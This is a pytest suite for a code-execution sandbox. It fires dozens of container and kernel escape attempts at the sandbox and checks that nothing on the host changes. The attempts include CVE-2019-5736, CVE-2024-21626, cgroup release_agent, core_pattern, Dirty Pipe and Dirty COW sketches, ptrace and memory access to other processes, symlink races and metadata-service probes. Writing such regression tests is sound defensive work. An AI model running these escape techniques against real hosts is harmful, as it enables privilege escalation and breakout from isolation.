"""Escapes that worked elsewhere once, by their names, and the tricks behind them: here each changes nothing outside.

A cell says with claim(...) that it got somewhere; the witness on the host has the last word. Every attack runs as root's
and as an ordinary user's sandbox, and at the level `no-namespaces`.
"""

import json

import pytest
from support import kernels

from jails import USERS
from witness import Witness

PROLOGUE = """
import ctypes, fcntl, json, os, platform, socket, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == 'x86_64'
claims = []
def claim(what): claims.append(what)
def call(x86, arm, *arguments): return libc.syscall(ctypes.c_long(x86 if X86 else arm), *arguments)
def attempt(what, function, *arguments):
    try: result = function(*arguments)
    except (OSError, ValueError, AttributeError, subprocess.SubprocessError): return None
    if what: claim(what)
    return result
def write(path, data, what=None, flags=os.O_WRONLY):
    def act():
        fd = os.open(path, flags)
        try: os.write(fd, data)
        finally: os.close(fd)
    attempt(what or path, act)
def read(path, words, what=None):
    def act():
        with open(path, 'rb') as file:
            if words not in file.read(1 << 20): raise ValueError
    attempt(what or path, act)
PID, PORT, SECRET, ABSTRACT = %(pid)d, %(port)d, %(secret)r, %(abstract)r
"""

ATTACKS = {
    # Runtimes and what they hand over
    "CVE-2019-5736: the runtime's own program by /proc/*/exe": """
for pid in [p for p in attempt(None, os.listdir, '/proc') or ['1'] if p.isdigit()] + ['self']:
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        write('/proc/%s/exe' % pid, b'#!/bin/sh', flags=flags)
fd = attempt(None, os.open, '/proc/self/exe', os.O_PATH)
if fd: write('/proc/self/fd/%d' % fd, b'#!/bin/sh')""",
    "CVE-2024-21626: a folder of the host by an inherited descriptor": """
for fd in range(0, 64):
    for up in range(1, 12):
        read('/proc/self/fd/%d/%s%s' % (fd, '../' * up, SECRET.lstrip('/')), b'secret')
    def act():
        os.chdir('/proc/self/fd/%d' % fd)
        with open('../' * 12 + SECRET.lstrip('/')): pass
    attempt('folder %d' % fd, act)
os.chdir('/tmp')""",
    "CVE-2016-9962: a process that joins is traced": """
for pid in range(1, 40):
    if pid != os.getpid() and call(101, 117, 16, pid, 0, 0) == 0: claim('attached %d' % pid)
    if pid != os.getpid() and call(101, 117, 0x4206, pid, 0, 0) == 0: claim('seized %d' % pid)""",
    "CVE-2020-15257: a shim's abstract socket": """
attempt('connected', lambda: socket.socket(socket.AF_UNIX).connect('\\0' + ABSTRACT))
attempt('sent', lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '\\0' + ABSTRACT))
read('/proc/net/unix', ABSTRACT.encode())""",
    "CVE-2022-0492: release_agent of a cgroup": """
for path in ('/sys/fs/cgroup', '/sys/fs/cgroup/memory', '/tmp/cgroup'):
    attempt(None, os.mkdir, path)
    for kind in (b'cgroup', b'cgroup2'):
        if libc.mount(b'none', path.encode(), kind, 0, b'') == 0: claim('mounted ' + path)
    for name in ('release_agent', 'notify_on_release', 'cgroup.procs', 'memory.max', 'memory.limit_in_bytes'):
        write(path + '/' + name, b'/tmp/x')""",
    "CVE-2025-31133: /dev/null is a link when a path is masked": """
for name in ('null', 'zero', 'tty'):
    attempt('removed ' + name, os.remove, '/dev/' + name)
    attempt('renamed ' + name, os.rename, '/dev/' + name, '/dev/x')
    attempt('linked ' + name, os.symlink, '/proc/sys/kernel/core_pattern', '/dev/' + name)
write('/proc/sys/kernel/core_pattern', b'|/tmp/x')""",
    "CVE-2025-52565: /dev/console and /dev/pts are links": """
attempt('console', os.symlink, '/proc/sysrq-trigger', '/dev/console')
attempt('pts', os.rename, '/dev/pts', '/dev/x')
write('/dev/console', b'x')
write('/proc/sysrq-trigger', b'h')""",
    "CVE-2025-52881: writes to /proc/self/attr led elsewhere": """
for path in ('/proc/self/attr', '/proc/self', '/proc/self/attr/exec'):
    attempt('moved ' + path, os.rename, path, '/tmp/x')
    if libc.mount(b'none', path.encode(), b'tmpfs', 0, b'') == 0: claim('mounted on ' + path)
for path in ('/proc/self/oom_score_adj', '/proc/1/oom_score_adj'): write(path, b'-1000')""",
    "CVE-2019-14271: a library that the engine loads": """
for folder in ('/lib', '/usr/lib', '/lib64', '/usr/lib/x86_64-linux-gnu', '/etc', '/opt/cellblock', '/usr/lib/python3'):
    write(folder + '/libnss_files.so.2', b'x', flags=os.O_WRONLY | os.O_CREAT)
    attempt(folder, os.rename, folder, '/tmp/x')
for path in ('/etc/ld.so.preload', '/etc/ld.so.cache', '/etc/nsswitch.conf'):
    write(path, b'/tmp/x.so', flags=os.O_WRONLY | os.O_CREAT)""",
    "shocker: a file by its handle": """
class Handle(ctypes.Structure): _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('f', ctypes.c_ubyte * 128)]
h = Handle(128, 0); at = ctypes.c_int()
call(303, 264, -100, b'/', ctypes.byref(h), ctypes.byref(at), 0)
root = os.open(os.environ.get('TMPDIR', '/tmp'), os.O_RDONLY)
for inode in (1, 2, 128, 256):
    h = Handle(8, 1); h.f[:8] = struct.pack('<II', inode, 0)
    if call(304, 265, root, ctypes.byref(h), 0) >= 0: claim('opened %d' % inode)
os.close(root)""",
    "the sockets of engines": """
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/crio/crio.sock',
             '/run/podman/podman.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0'):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))""",

    # The kernel's own doors
    "core_pattern and a crash": """
write('/proc/sys/kernel/core_pattern', b'|/tmp/x %P')
for number in range(3):
    pid = os.fork()
    if pid == 0: os.abort()
    os.waitpid(pid, 0)
if [name for name in os.listdir('.') if 'core' in name]: claim('a core dump')""",
    "helpers that the kernel starts": """
for path in ('/proc/sys/kernel/modprobe', '/proc/sys/kernel/hotplug', '/sys/kernel/uevent_helper', '/proc/sys/kernel/poweroff_cmd',
             '/proc/sys/fs/binfmt_misc/register', '/sys/kernel/debug/x', '/sys/power/state', '/sys/kernel/mm/ksm/run'):
    write(path, b'/tmp/x')
attempt(None, socket.socket, 41, socket.SOCK_STREAM)
open('/tmp/odd', 'wb').write(b'\\xff\\xff\\xff\\xff'); os.chmod('/tmp/odd', 0o755)
attempt(None, subprocess.run, ['/tmp/odd'])""",
    "settings of the kernel": """
for name in ('kernel/hostname', 'kernel/domainname', 'kernel/kptr_restrict', 'kernel/randomize_va_space', 'kernel/sysrq',
             'kernel/panic', 'vm/drop_caches', 'vm/overcommit_memory', 'fs/file-max', 'net/ipv4/ip_forward', 'kernel/shmmax',
             'kernel/ns_last_pid', 'vm/mmap_min_addr', 'fs/suid_dumpable', 'kernel/perf_event_paranoid'):
    write('/proc/sys/' + name, b'1')""",
    "the kernel's memory and messages": """
for path in ('/proc/kcore', '/dev/mem', '/dev/kmem', '/dev/port', '/proc/kallsyms', '/dev/kmsg', '/proc/kmsg', '/dev/cpu/0/msr',
             '/proc/iomem', '/proc/ioports', '/proc/config.gz', '/proc/kpagecount', '/proc/kpageflags'):
    def act():
        with open(path, 'rb') as file:
            if not file.read(4).strip(b'0 -'): raise ValueError
    attempt(path, act)
if call(103, 116, 3, ctypes.create_string_buffer(4096), 4096) > 0: claim('syslog')""",
    "device nodes": """
for kind, mode in (('block', 0o60666), ('char', 0o20666)):
    for major, minor in ((8, 0), (253, 0), (259, 0), (254, 0), (1, 1), (10, 200), (10, 229), (5, 1)):
        attempt('%s %d:%d' % (kind, major, minor), os.mknod, '/tmp/n%d-%d' % (major, minor), mode, os.makedev(major, minor))
for name in ('sda', 'vda', 'nvme0n1', 'loop-control', 'fuse', 'net/tun', 'kvm', 'vhost-vsock', 'mapper/control', 'uinput'):
    attempt(name, os.open, '/dev/' + name, os.O_RDONLY)""",
    "namespaces of its own": """
for flag in (0x10000000, 0x00020000, 0x40000000, 0x10020000, 0x20000000, 0x02000000, 0x04000000, 0x08000000, 0x80):
    if call(272, 97, flag) == 0: claim('unshare %x' % flag)
arguments = struct.pack('QQQQQQQQ', 0x10000000, 0, 0, 0, 17, 0, 0, 0)
pid = call(435, 435, arguments, 64)
if pid == 0: os._exit(0)
if pid > 0: claim('clone3')""",
    "namespaces of others": """
for pid in (1, os.getppid(), PID):
    for kind in ('mnt', 'user', 'net', 'pid', 'ipc', 'uts', 'cgroup'):
        def act():
            fd = os.open('/proc/%d/ns/%s' % (pid, kind), os.O_RDONLY)
            try:
                if call(308, 268, fd, 0): raise OSError
            finally: os.close(fd)
        attempt('%s of %d' % (kind, pid), act)
    fd = call(434, 434, pid, 0)
    if fd >= 0:
        if call(308, 268, fd, 0x7e020000) == 0: claim('by a pidfd')
        os.close(fd)""",
    "mounts, old and new": """
for kind in (b'tmpfs', b'proc', b'sysfs', b'overlay', b'devtmpfs', b'debugfs', b'bpf', b'mqueue', b'fuse', b'9p'):
    if libc.mount(b'none', b'/tmp', kind, 0, b'') == 0: claim(kind.decode())
for source, flags in ((b'/', 4096), (b'/usr', 32 | 4096), (b'/tmp', 1 << 18), (b'/', 1 << 19)):
    if libc.mount(source, b'/tmp', None, flags, None) == 0: claim('bind %x' % flags)
if call(430, 430, b'tmpfs', 0) >= 0: claim('fsopen')
if call(428, 428, -100, b'/', 1) >= 0: claim('open_tree')
if call(433, 433, -100, b'/', 0) >= 0: claim('fspick')
if call(442, 442, -100, b'/', 0, struct.pack('QQQQ', 0, 1, 0, 0), 32) == 0: claim('mount_setattr')
for path in (b'/proc', b'/usr', b'/dev', b'/tmp'):
    if libc.umount2(path, 2) == 0: claim('unmounted %s' % path)
if call(155, 41, b'/tmp', b'/tmp') == 0: claim('pivot_root')""",
    "chroot and ..": """
os.makedirs('/tmp/a', exist_ok=True)
fd = os.open('/tmp', os.O_RDONLY)
attempt('chroot', os.chroot, '/tmp/a')
attempt(None, os.fchdir, fd)
for _ in range(40): attempt(None, os.chdir, '..')
read('.' + SECRET, b'secret')
os.chdir('/tmp'); os.close(fd)""",

    # Bugs of the kernel that need a door we keep shut
    "CVE-2022-0847 (Dirty Pipe): a page of a file by splice": """
for path in ('/usr/bin/env', sys.executable, '/etc/passwd', '/data/data.txt'):
    def act():
        r, w = os.pipe()
        room = fcntl.fcntl(w, 1032)  # F_GETPIPE_SZ: 8 KiB where the user's other pipes take all of pipe-user-pages-soft
        os.write(w, bytes(room)); os.read(r, room)
        fd = os.open(path, os.O_RDONLY)
        os.splice(fd, w, 1, offset_src=4)
        os.write(w, b'PWNED'); os.close(fd); os.close(r); os.close(w)
    attempt(None, act)""",
    "CVE-2016-5195 (Dirty COW): a private page of a file": """
import mmap
fd = os.open('/data/data.txt', os.O_RDONLY)
m = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
libc.mmap.restype = ctypes.c_void_p
at = libc.mmap(None, 4096, 1, 2, fd, 0)
end = time.time() + 0.3
def discard():
    while time.time() < end: libc.madvise(ctypes.c_void_p(at), 4096, 4)
one = threading.Thread(target=discard); one.start()
def act():
    memory = os.open('/proc/self/mem', os.O_RDWR)
    while time.time() < end: os.pwrite(memory, b'PWNED', at)
attempt(None, act); one.join(); os.close(fd)""",
    "CVE-2022-0185: a filesystem's options": """
fd = call(430, 430, b'ext4', 0)
if fd >= 0: claim('fsopen')
for command in (1, 2, 6):
    if call(431, 431, 3, command, b'k', b'v' * 4000, 0) == 0: claim('fsconfig')""",
    "CVE-2021-3493, CVE-2023-0386: an overlay with capabilities": """
for name in 'luwm': os.makedirs('/tmp/o/' + name, exist_ok=True)
if libc.mount(b'overlay', b'/tmp/o/m', b'overlay', 0, b'lowerdir=/tmp/o/l,upperdir=/tmp/o/u,workdir=/tmp/o/w') == 0: claim('overlay')
open('/tmp/o/l/f', 'w').close()
attempt('capability', os.setxattr, '/tmp/o/l/f', 'security.capability', struct.pack('<IIIII', 0x2000001, 0x200000, 0, 0, 0))""",
    "CVE-2020-14386, CVE-2017-7308: packet sockets": """
for family, kind, protocol in ((17, 3, 768), (17, 2, 768), (2, 3, 1), (2, 3, 255), (10, 3, 58), (2, 10, 0)):
    attempt('%d/%d' % (family, kind), socket.socket, family, kind, protocol)""",
    "CVE-2022-32250, CVE-2024-1086: nf_tables by netlink": """
for protocol in range(0, 22): attempt('netlink %d' % protocol, socket.socket, 16, 3, protocol)
def act():
    a, b = socket.socketpair(socket.AF_UNIX); a.setsockopt(0, 64, bytes(84))
attempt('iptables', act)""",
    "CVE-2021-22555: a table of iptables": """
for level in (socket.SOL_IP, 41):
    for option in (64, 65):
        attempt('%d/%d' % (level, option),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).setsockopt(level, option, bytes(4096)))""",
    "CVE-2017-11176, CVE-2021-26708: families nobody needs": """
for family in (3, 4, 5, 6, 8, 9, 11, 12, 15, 19, 20, 21, 23, 24, 26, 27, 29, 30, 31, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44):
    for kind in (1, 2, 3, 5):
        attempt('%d/%d' % (family, kind), socket.socket, family, kind, 0)
        attempt('a pair of %d/%d' % (family, kind), socket.socketpair, family, kind, 0)
        # The kernel's own answer would come from the family's code.
        if libc.socketpair(family, kind, 0, (ctypes.c_int * 2)()) != -1 or ctypes.get_errno() != 97: claim('pair %d' % family)""",
    "CVE-2016-0728, CVE-2017-6074: keys of the kernel": """
for where in (-1, -2, -3, -4, -5):
    if call(248, 217, b'user', b'cellblock-planted', b'x', 1, where) > 0: claim('add_key %d' % where)
    if call(250, 219, 0, where, 1) > 0: claim('keyctl %d' % where)
if call(249, 218, b'user', b'cellblock-planted', b'', -3) > 0: claim('request_key')""",
    "CVE-2021-3490, CVE-2023-2163: programs of BPF": """
for command in range(0, 38):
    if call(321, 280, command, bytes(128), 128) >= 0: claim('bpf %d' % command)
def act(): socket.socketpair()[0].setsockopt(socket.SOL_SOCKET, 50, struct.pack('I', 3))
attempt('attached', act)""",
    "CVE-2021-41073, CVE-2023-2598: io_uring": """
for flags in (0, 1, 2, 1 << 13):
    if call(425, 425, 8, struct.pack('IIII', 0, 0, flags, 0) + bytes(112)) >= 0: claim('io_uring %x' % flags)
for fd in range(3, 20):
    if call(426, 426, fd, 1, 0, 0, 0, 0) >= 0: claim('entered')
    if call(427, 427, fd, 0, 0, 0) >= 0: claim('registered')""",
    "a fault that waits: userfaultfd and FUSE": """
for flags in (0, 1, 0x80000):
    if call(323, 282, flags) >= 0: claim('userfaultfd')
attempt('/dev/userfaultfd', os.open, '/dev/userfaultfd', os.O_RDWR)
attempt('/dev/fuse', os.open, '/dev/fuse', os.O_RDWR)""",
    "CVE-2013-2094: performance events": """
attribute = struct.pack('IIQQ', 1, 120, 0, 0) + bytes(96)
for pid, processor in ((0, -1), (-1, 0), (1, -1), (0, 0)):
    if call(298, 241, attribute, pid, processor, -1, 0) >= 0: claim('counted')""",
    "CVE-2022-29581, CVE-2009-2692: addresses and personalities": """
import mmap
libc.mmap.restype = ctypes.c_long
if libc.mmap(None, 4096, 3, 0x32, -1, 0) == 0: claim('page 0')
for persona in (0x0040000, 0x0400000, 0x0100000, 8, 0x0200000):
    if call(135, 92, persona) >= 0: claim('personality %x' % persona)
if X86:
    for number, arguments in ((154, (1, bytes(16), 16)), (172, (3,)), (173, (0, 1024, 1)), (158, (0x1012, 0)), (158, (0x2001, 1 << 20))):
        # Refused by the filter (EPERM), on processors too that couldn't do it anyway (ENODEV).
        if libc.syscall(number, *arguments) == 0 or ctypes.get_errno() != 1: claim('call %d %x' % (number, arguments[0]))""",
    "letters typed into a terminal": """
for fd in (0, 1, 2):
    for request in (0x5412, 0x541C, 0x5423, 0x100005412):
        if libc.ioctl(fd, ctypes.c_ulong(request), b'x') == 0: claim('%d %x' % (fd, request))
attempt('/dev/tty', os.open, '/dev/tty', os.O_RDWR)
for name in ('console', 'tty0', 'tty1', 'vcs', 'ttyS0'): attempt(name, os.open, '/dev/' + name, os.O_RDWR)""",
    "clocks, hosts' names, swap and accounts": """
for name, number, arguments in (('settimeofday', (164, 170), (struct.pack('qq', 1, 0), 0)), ('clock_settime', (227, 112), (0, struct.pack('qq', 1, 0))),
                                ('sethostname', (170, 161), (b'pwned', 5)), ('setdomainname', (171, 162), (b'pwned', 5)),
                                ('swapon', (167, 224), (b'/tmp/s', 0)), ('acct', (163, 89), (b'/tmp/a',)), ('quotactl', (179, 60), (0, 0, 0, 0)),
                                ('adjtimex', (159, 171), (struct.pack('I', 1) + bytes(204),)), ('vhangup', (153, 58), ()),
                                ('init_module', (175, 105), (b'x', 1, b'')), ('finit_module', (313, 273), (0, b'', 0)),
                                ('kexec_load', (246, 104), (0, 0, 0, 0)), ('reboot', (169, 142), (0xfee1dead, 672274793, 0, 0))):
    if call(*number, *arguments) == 0: claim(name)""",

    # The neighbours and the guard
    "the memory of others": """
for pid in (1, os.getppid(), PID):
    for path in ('mem', 'environ', 'maps', 'auxv', 'stack', 'syscall', 'io'):
        def act():
            with open('/proc/%d/%s' % (pid, path), 'rb') as file:
                if path == 'mem': file.seek(0x400000)
                if not file.read(16): raise ValueError
        if path in ('mem', 'environ', 'stack', 'syscall'): attempt('%d/%s' % (pid, path), act)
    write('/proc/%d/mem' % pid, b'x')
    buffer = ctypes.create_string_buffer(64)
    vector = struct.pack('QQ', ctypes.addressof(buffer), 64)
    for number in ((310, 270), (311, 271)):
        if call(*number, pid, vector, 1, struct.pack('QQ', 0x400000, 64), 1, 0) > 0: claim('vm of %d' % pid)
    fd = call(434, 434, pid, 0)
    if fd >= 0:
        for other in range(0, 16):
            if call(438, 438, fd, other, 0) >= 0: claim('descriptor %d of %d' % (other, pid))
        if call(440, 440, fd, vector, 1, 4, 0) >= 0: claim('process_madvise')
        os.close(fd)""",
    "signals to others": """
for number in (0, 10, 18): attempt('signal %d' % number, os.kill, PID, number)
for name, arguments in (('tgkill', (234, 131, PID, PID, 10)), ('tkill', (200, 130, PID, 10)),
                        ('rt_sigqueueinfo', (129, 138, PID, 10, struct.pack('iii', 10, 0, -1) + bytes(116)))):
    if call(*arguments) == 0: claim(name)""",
    "the limits and the place of others": """
import resource
for pid in (PID, 1):
    attempt('prlimit %d' % pid, resource.prlimit, pid, resource.RLIMIT_NOFILE, (1, 1))
    attempt('affinity %d' % pid, os.sched_setaffinity, pid, {0})
    attempt('scheduler %d' % pid, os.sched_setscheduler, pid, 3, os.sched_param(0))
attempt('nice', os.setpriority, os.PRIO_PROCESS, PID, 19)
attempt('real time', os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
attempt('nicer', os.nice, -5)
for key, value in ((resource.RLIMIT_NPROC, 10**6), (resource.RLIMIT_DATA, -1), (resource.RLIMIT_CORE, 10**6)):
    attempt('rlimit %d' % key, resource.setrlimit, key, (value, value))""",
    "rights it doesn't have": """
for change in ((105, 146, 0), (106, 144, 0), (117, 147, 0, 0, 0), (119, 149, 0, 0, 0), (116, 159, 1, struct.pack('I', 0))):
    if call(*change) == 0 and os.getuid() == 0: claim(str(change[0]))
if call(126, 91, struct.pack('II', 0x20080522, 0), struct.pack('IIIIII', 0xffffffff, 0xffffffff, 0, 0xff, 0xff, 0)) == 0: claim('capset')
for option, value in ((38, 0), (22, 0), (28, 0), (47, 2)):
    if libc.prctl(option, value, 0, 0, 0) == 0: claim('prctl %d' % option)
for program in ('/usr/bin/su', '/usr/bin/passwd', '/usr/bin/mount', '/usr/bin/sudo', '/usr/bin/newgrp'):
    if os.path.exists(program): attempt(None, subprocess.run, [program, '--help'])
with open('/tmp/suid', 'wb') as file: file.write(open('/usr/bin/id', 'rb').read())
attempt(None, os.chmod, '/tmp/suid', 0o6755)
shown = attempt(None, subprocess.check_output, ['/tmp/suid', '-u'])
if shown and shown.strip() == b'0': claim('root')""",

    # Races
    "a link is swapped while a path is walked": """
os.makedirs('/tmp/r/a', exist_ok=True)
end = time.time() + 0.5
def swap():
    while time.time() < end:
        for target in ('/', '/proc/1/root', '/proc/self/cwd', SECRET.rsplit('/', 1)[0]):
            try: os.symlink(target, '/tmp/r/l2'); os.rename('/tmp/r/l2', '/tmp/r/l')
            except OSError: pass
one = threading.Thread(target=swap); one.start()
while time.time() < end:
    for path in ('/tmp/r/l' + SECRET, '/tmp/r/l/secret', '/tmp/r/l/../..' + SECRET): read(path, b'secret')
one.join()""",
    "a folder is moved out from under a climber": """
os.makedirs('/tmp/m/1/2/3/4', exist_ok=True)
fd = os.open('/tmp/m/1/2/3/4', os.O_RDONLY)
end = time.time() + 0.4
def move():
    while time.time() < end:
        for one, other in (('/tmp/m/1/2', '/tmp/m2'), ('/tmp/m2', '/tmp/m/1/2')):
            try: os.rename(one, other)
            except OSError: pass
one = threading.Thread(target=move); one.start()
while time.time() < end:
    def act():
        with open(os.open('../' * 9 + SECRET.lstrip('/'), os.O_RDONLY, dir_fd=fd)): pass
    attempt('out', act)
one.join(); os.close(fd)""",
    "what belongs to the program is swapped for the next worker": """
for path in ('/opt/cellblock/python/cellblock_worker/__main__.py', '/opt/cellblock/python', sys.executable, '/usr/lib/python3',
             os.path.dirname(os.__file__) + '/os.py', os.path.dirname(os.__file__) + '/site-packages'):
    attempt('removed ' + path, os.remove, path)
    attempt('renamed ' + path, os.rename, path, '/tmp/x')
    attempt('made ' + path, os.makedirs, path + '/cellblock')
    attempt('times of ' + path, os.utime, path)
    attempt('mode of ' + path, os.chmod, path, 0o777)
    attempt('owner of ' + path, os.chown, path, os.getuid(), os.getgid())""",
    "the shared folder": """
for name in ('data.txt', 'new', 'sub/x', '../secret', '../../home/secret'):
    for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_TRUNC):
        write('/data/' + name, b'x', flags=flags)
attempt('link', os.link, '/data/data.txt', '/data/l')
attempt('link out', os.link, '/data/data.txt', '/tmp/l')
attempt('rename', os.rename, '/data/data.txt', '/data/x')
attempt('removed', os.remove, '/data/data.txt')
attempt('mode', os.chmod, '/data/data.txt', 0o777)
attempt('xattr', os.setxattr, '/data/data.txt', 'user.x', b'x')
attempt('times', os.utime, '/data/data.txt')
for request in (0x40086602, 0x40049409, 0x6601):
    def act():
        fd = os.open('/data/data.txt', os.O_RDONLY)
        try: fcntl.ioctl(fd, request, struct.pack('q', 0x10))
        finally: os.close(fd)
    attempt('flags', act)
fd = os.open('/data/data.txt', os.O_RDONLY)
write('/proc/self/fd/%d' % fd, b'x'); attempt('truncated', os.truncate, fd, 0); os.close(fd)""",
    "the host's services": """
for address in (('127.0.0.1', PORT), ('::1', PORT), ('localhost', PORT), ('169.254.169.254', 80), ('10.0.0.1', 80), ('0.0.0.0', PORT)):
    def act():
        with socket.create_connection(address, timeout=1): pass
    attempt('reached %s' % address[0], act)
attempt('datagram', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53)))""",
}

# At the level `no-namespaces` an ordinary user's calls that change marks of files say that they did, and do nothing: the
# witness sees to the second half.
SAID_AND_NOT_DONE = ("times of", "mode", "owner of", "xattr", "times", "capability")

CASES = [(user, "default") for user in USERS] + [(USERS[-1], "no-namespaces")]


@pytest.fixture(scope="module", params=CASES, ids=["%s-%s" % case for case in CASES])
def sandbox(request):
    user, level = request.param
    place = kernels.Place(None if user == "root" or len(USERS) == 1 else user)
    witness = Witness(place)
    own = witness.shared if level == "no-namespaces" else "/data"  # without namespaces nothing can be shown elsewhere
    policy = place.policy("known-escapes", **({} if level == "default" else {"require": level}), limits={"cell_time": "20s"},
                          files=[{"host": str(witness.shared), "sandbox": str(own), "mode": "read"}])
    command = [kernels.PROGRAM, "kernel", "-f", "{connection_file}", "--policy", policy]
    if level == "no-namespaces":
        command = [*kernels.lesser_host(kernels.NO_NAMESPACES), *command]
    kernel = None
    try:
        kernel = kernels.Kernel(place, command=command)
        writable = kernel.client.run("import tempfile; print(tempfile.gettempdir())").ok().stdout.strip()
        yield kernel, witness, level, lambda code: code.replace("/tmp", writable).replace("/data/", "%s/" % own)
    finally:
        left = kernel.stop() if kernel else {}
        witness.leave()
        place.remove()
    assert not left, "outlived the kernel: %s" % left


@pytest.mark.parametrize("name", ATTACKS)
def test_changes_nothing_outside(sandbox, name):
    kernel, witness, level, placed = sandbox
    values = {"pid": witness.victim.pid, "port": witness.port, "secret": str(witness.secret), "abstract": witness.abstract}
    run = kernel.client.run(PROLOGUE % values + placed(ATTACKS[name]) + "\nprint('claims', json.dumps(claims))", timeout=60)
    assert not witness.changes()
    assert run.status == "ok", run.content
    claims = json.loads(run.stdout.rpartition("claims")[2])
    if level == "no-namespaces":
        claims = [one for one in claims if not one.startswith(SAID_AND_NOT_DONE)]
    assert claims == []
